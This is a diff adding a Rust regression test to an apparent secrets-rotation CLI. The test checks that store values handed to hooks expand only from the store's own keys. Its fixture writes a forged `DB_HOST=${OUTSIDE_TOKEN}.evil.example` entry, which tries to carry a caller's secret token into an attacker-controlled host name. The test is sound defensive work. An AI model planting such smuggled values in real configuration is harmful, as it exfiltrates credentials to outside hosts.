@@ -227,6 +227,34 @@ fn bootstrapped(manifest: &str) -> (crate::common::Output, PathBuf) {
     (out, config)
 }
 
+/// A store value's `${VAR}` is expanded from the store's own keys only when handed to a hook:
+/// a forged store's `DB_HOST=${CI_TOKEN}.evil.example` must not carry a secret of the caller's
+/// environment into a host name a hook resolves.
+#[test]
+fn hook_values_expand_from_the_store_only_never_from_the_callers_environment() {
+    let manifest = "[environments.production]\nfile = \".env\"\n[secrets.DB_PASSWORD]\n\
+                    kind = \"alnum\"\nlength = 32\nrole = \"credential\"\n\
+                    [secrets.DB_PASSWORD.hooks]\nset = 'printf \"%s|%s\" \"$DB_HOST\" \"$DB_URL\" > seen'\n";
+    let t = Test::new().write("envmint.toml", manifest).write(
+        ".env",
+        "DB_PASSWORD=abcdefghijklmnopqrstuvwxyz012345\nDB_NAME=app\n\
+         DB_HOST=${OUTSIDE_TOKEN}.evil.example\nDB_URL=db/${DB_NAME}\n",
+    );
+    let config = t.path("config");
+    let out = t
+        .env("XDG_CONFIG_HOME", &config)
+        .env("OUTSIDE_TOKEN", "ghs_caller_secret")
+        .args([
+            "rotate",
+            "production",
+            "--key",
+            "DB_PASSWORD",
+            "--allow-hooks",
+        ])
+        .status(0);
+    assert_eq!(out.read("seen"), ".evil.example|db/app");
+}
+
 /// A project using `pg`: its manifest, the store bootstrapped with the admin password and
 /// host beside DB_PASSWORD, the app role given DB_PASSWORD's first value.
 fn pg_project(pg: &Postgres, manifest: &str) -> (Test, String) {
